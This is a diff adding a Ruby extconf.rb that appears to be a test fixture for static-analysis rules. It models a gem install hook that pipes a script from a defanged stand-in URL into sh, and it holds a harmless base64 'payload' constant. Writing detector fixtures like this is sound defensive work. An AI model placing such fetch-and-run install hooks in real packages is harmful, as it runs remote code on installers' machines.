@@ -0,0 +1,11 @@
+# An extconf.rb that downloads and runs a script when the gem is installed,
+# instead of building an extension. The URL is defanged.
+require 'mkmf'
+
+# ruleid: ruby-system-command-execution, ruby-hardcoded-urls
+system("curl -fsSL https://cdn.example.invalid/setup.sh | sh")
+
+# ruleid: ruby-hardcoded-base64
+PAYLOAD = "ZWNobyAiZGVmYW5nZWQgcGF5bG9hZCI7IGV4aXQgMCAjIG5vdGhpbmcgdG8gc2VlIGhlcmU="
+
+create_makefile('dropper')